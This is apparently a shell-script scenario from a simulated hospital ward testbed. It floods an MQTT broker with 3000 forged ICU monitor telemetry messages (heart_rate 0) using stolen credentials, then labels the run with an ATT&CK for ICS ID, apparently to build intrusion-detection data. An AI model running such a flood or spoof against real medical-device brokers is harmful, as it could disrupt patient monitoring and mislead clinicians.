# MQTT PUBLISH flood with stolen credentials: 3000 messages on the cognitive monitor's topic over
# one connection (mosquitto_pub -l).
DEFAULT_DURATION=30
attack_mqtt_publish_flood() {
  local t0 t1
  t0=$(now)
  seq 1 3000 | sed 's/.*/{"device_id":"COGMON-0031","heart_rate":0,"seq":&}/' |
    run_in attacker mqtt-flood 20 mosquitto_pub -h 10.10.3.2 -i flood-pub -u "$MQTT_USER" \
      -P "$MQTT_PASSWORD" -t ward/icu/cogmon/COGMON-0031/telemetry -l
  t1=$(now)
  label mqtt_publish_flood T0814 attacker broker "$t0" "$t1" \
    "3000 PUBLISH on ward/icu/cogmon/COGMON-0031/telemetry over one connection, stolen credentials"
}
scenario_run() {
  start_ward "$1"
  sleep 5
  attack_mqtt_publish_flood
}
